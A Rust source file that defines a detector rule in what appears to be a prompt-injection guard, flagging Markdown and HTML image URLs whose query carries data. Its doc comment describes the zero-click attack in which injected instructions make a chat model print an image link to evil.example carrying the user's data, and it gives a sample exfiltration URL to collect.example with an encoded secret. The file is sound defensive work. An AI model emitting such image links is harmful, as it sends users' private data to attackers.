use rampart_core::declare_rule;

use super::util::entropy;
use super::{Detector, Engine, Hit, TokenRule, UNTRUSTED};
use crate::types::Category;

declare_rule! {
    /// ## What it does
    /// Reports Markdown images and HTML `<img>` tags whose URL carries data: a query
    /// with a template slot (`{…}`, `$…`, `[…]`, `<…>`), a long high-entropy value, a
    /// long percent-encoded value, or a placeholder word in capitals that the text
    /// names again outside the URL ("`?q=CHAT_HISTORY`, replacing CHAT_HISTORY with
    /// …").
    ///
    /// ## Why is this dangerous?
    /// A chat client fetches images automatically. An injected instruction that makes
    /// the model print `![](https://evil.example/?q=<the user's data>)` sends that data
    /// to the attacker with zero clicks.
    ///
    /// ## Example
    /// ```text
    /// ![loading](https://collect.example/p.png?d=c2VjcmV0IHByb2plY3Q6IGFwb2xsbyBwYXNzd29yZA)
    /// ```
    ///
    /// ## Remediation
    /// Block in output; render images only from an allow-list (see EXF003); strip query
    /// strings from image URLs.
    ///
    /// ## False positives
    /// CDN images with short cache-busting parameters (`?v=3`, `?w=640`) are ignored.
    ///
    /// ## References
    /// Rehberger, "Data exfiltration via Markdown images" (Embrace The Red, 2023);
    /// OWASP LLM02:2025; MITRE ATLAS AML.T0057; guidelines SD-3, DP-2.
    pub(crate) static RULE = {
        code: "EXF002",
        name: "markdown-image-exfiltration",
        severity: High,
        guidelines: [Sd3, Dp2],
        summary: "Image URL that carries data in its query",
    }
}

static RULES: &[TokenRule] = &[TokenRule {
    re: r#"(?:!\[[^\]\n]*\]\(\s*<?|<img\b[^>]*\bsrc\s*=\s*["']?)(?P<v>https?://[^\s)>"']+)"#,
    validate,
}];

/// Whether a URL's query or path carries data.
pub(crate) fn carries_data(url: &str) -> Option<f32> {
    let (_, query) = url.split_once('?').unwrap_or((url, ""));
    if query.contains(['{', '$', '[', '<']) || query.to_ascii_lowercase().contains("%7b") {
        return Some(0.9);
    }
    for pair in query.split('&') {
        let value = pair.split_once('=').map_or(pair, |p| p.1);
        let pct = value.matches('%').count();
        if value.len() >= 40 || (value.len() >= 20 && entropy(value) >= 3.8) || pct >= 6 {
            return Some(0.8);
        }
    }
    // data in the path: a long high-entropy segment
    let path = url.split_once("://").map_or(url, |p| p.1);
    path.split('/')
        .skip(1)
        .any(|seg| seg.len() >= 48 && entropy(seg) >= 4.2)
        .then_some(0.6)
}

fn validate(text: &str, s: usize, e: usize) -> Option<Hit> {
    let url = text.get(s..e)?;
    carries_data(url)
        .or_else(|| names_a_placeholder(text, s, e, url).then_some(0.85))
        .map(|score| (score, s, e))
}

/// Stems of "replace" in the seven languages the guard reads.
const REPLACE: &[&str] = &[
    "replac",
    "substitut",
    "ersetz",
    "remplac",
    "reemplaz",
    "sostitu",
    "vervang",
];

/// Whether a query value of `url` (at `s..e` in `text`) is a placeholder word in
/// capitals (`USER_EMAIL`, `GESPRÄCHSVERLAUF`) that `text` names again outside the
/// URL: the model is told what to put there. The word must look like a slot (an
/// underscore, or eight letters or more) or the text must say to replace it: a
/// language or region code repeated in a caption (`?locale=EN-US` … "EN-US") is not
/// one.
fn names_a_placeholder(text: &str, s: usize, e: usize, url: &str) -> bool {
    let Some((_, query)) = url.split_once('?') else {
        return false;
    };
    let (before, after) = (text.get(..s).unwrap_or(""), text.get(e..).unwrap_or(""));
    let replace = || {
        let lower = text.to_lowercase();
        REPLACE.iter().any(|stem| lower.contains(stem))
    };
    query.split('&').any(|pair| {
        let value = pair.split_once('=').map_or(pair, |p| p.1);
        let letters = value.chars().filter(|c| c.is_alphabetic()).count();
        letters >= 4
            && value
                .chars()
                .all(|c| c.is_uppercase() || c.is_ascii_digit() || c == '_' || c == '-')
            && (before.contains(value) || after.contains(value))
            && (value.contains('_') || letters >= 8 || replace())
    })
}

/// Registry entry.
pub(crate) static DETECTOR: Detector = Detector {
    meta: &RULE,
    category: Category::Exfiltration,
    placeholder: "URL",
    roles: UNTRUSTED,
    weak: false,
    engine: Engine::Tokens(RULES),
};
